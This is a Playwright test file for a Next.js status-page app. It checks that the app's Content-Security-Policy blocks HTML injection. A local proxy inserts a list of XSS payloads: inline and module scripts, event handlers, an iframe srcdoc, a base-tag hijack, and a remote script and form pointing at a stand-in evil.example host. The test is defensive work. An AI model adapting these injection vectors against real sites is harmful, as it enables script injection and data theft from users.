import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { nextPage } from "@/lib/server/next-page";
import { banner, expect, test } from "../support/page";
import type { TestServer } from "../support/server";

/** What somebody who can write into our HTML would try; each says so in the window's name if it runs. */
const run = (how: string) => `window.name += " ${how}"`;
const INJECTED = [
  `<script>${run("plain")}</script>`,
  `<script type="module">${run("module")}</script>`,
  `<script>(self.__next_f=self.__next_f||[]).push([0]);${run("behind-the-beginning")}</script>`,
  `<script>self.__next_f.push([1,""]);${run("behind-a-push")}</script>`,
  `<script src="data:text/javascript,${encodeURIComponent(run("data"))}"></script>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<img src="/none.png" onerror='${run("handler")}'>`,
  `<svg onload='${run("svg")}'></svg>`,
  `<iframe srcdoc="<script>parent.${run("frame").replaceAll('"', "'")}</script>"></iframe>`,
  `<base href="https://evil.example/">`,
  `<style>body { --injected: 1 }</style>`,
  `<form id="leak" action="https://evil.example/"><button>Go on</button></form>`,
];

/** The built app behind a hole: its pages with something foreign in them, given the policy that such a page would get. */
async function startHole(server: TestServer, foreign: string) {
  const hole = createServer(async (request, response) => {
    const behind = await fetch(server.url + request.url);
    const isPage = behind.headers.get("Content-Type")?.startsWith("text/html");
    const answer = isPage ? await infectedPage(behind, foreign) : behind;
    const headers = Object.fromEntries([...answer.headers].filter(([name]) => !/encoding|length/.test(name)));
    response.writeHead(answer.status, headers).end(Buffer.from(await answer.arrayBuffer()));
  });
  await new Promise<void>((resolve) => hole.listen(0, "127.0.0.1", resolve));
  return { url: `http://127.0.0.1:${(hole.address() as AddressInfo).port}`, stop: () => hole.close() };
}

/** What the app would send: a page of Next's gets its policy from its bytes, every other brings its own. */
async function infectedPage(behind: Response, foreign: string): Promise<Response> {
  const html = await behind.text();
  const page = infected(html, foreign);
  if (html.includes("__next_f")) return nextPage(page);
  page.headers.set("Content-Security-Policy", behind.headers.get("Content-Security-Policy") ?? "");
  return page;
}

const infected = (html: string, foreign: string) =>
  new Response(html.replace("<body>", `<body>${foreign}`), { headers: { "Content-Type": "text/html" } });

test.describe("a page into which somebody has written", () => {
  test.use({ tolerated: /./ });

  test("runs its own scripts and nothing of theirs, loads and sends nothing elsewhere", async ({ page, server }) => {
    const hole = await startHole(server, INJECTED.join(""));
    const refused: string[] = [];
    page.on("console", (message) => {
      if (/Content Security Policy/.test(message.text())) refused.push(message.text());
    });
    const answered: string[] = [];
    page.on("response", (response) => answered.push(new URL(response.url()).host));
    await page.goto(hole.url);
    await expect(banner(page)).toBeVisible();
    await expect(page.getByText(/^Updated (just now|.* ago)/)).toBeVisible(); // written by our own scripts
    expect(await page.evaluate(() => [window.name, document.baseURI])).toEqual(["", `${hole.url}/`]);
    expect(new Set(answered)).toEqual(new Set([new URL(hole.url).host]));
    expect(await page.evaluate(() => getComputedStyle(document.body).getPropertyValue("--injected"))).toBe("");
    expect(refused.length).toBeGreaterThanOrEqual(INJECTED.length - 2);
    const refusedOfForm = page.evaluate(
      () =>
        new Promise((resolve) => {
          addEventListener("securitypolicyviolation", ({ effectiveDirective }) => resolve(effectiveDirective));
          document.querySelector<HTMLFormElement>("#leak")?.requestSubmit();
        }),
    );
    expect(await refusedOfForm).toBe("form-action");
    hole.stop();
  });

  test("would have run them without its policy", async ({ page, server }) => {
    const hole = await startHole(server, INJECTED.join(""));
    await page.route(`${hole.url}/`, async (route) => {
      const response = await route.fetch();
      const { "content-security-policy": _, ...headers } = response.headers();
      await route.fulfill({ response, headers });
    });
    await page.goto(hole.url);
    for (const how of ["plain", "module", "behind-a-push", "behind-the-beginning", "handler", "svg"])
      await expect.poll(() => page.evaluate(() => window.name)).toContain(` ${how}`);
    hole.stop();
  });
});

test("our own pages live within their policy: the browser refuses nothing of them", async ({ page, operator }) => {
  await operator.pin("app-raxx-app", "DOWN", { public_note: "Some <script>alert(1)</script> logins fail." });
  for (const path of ["/", "/ja", "/history", "/docs/api", "/surfaces/app-raxx-app"]) {
    const response = await page.goto(path, { waitUntil: "networkidle" });
    expect([path, response?.headers()["content-security-policy"]?.startsWith("default-src 'none'; ")]).toEqual([
      path,
      true,
    ]);
  }
});
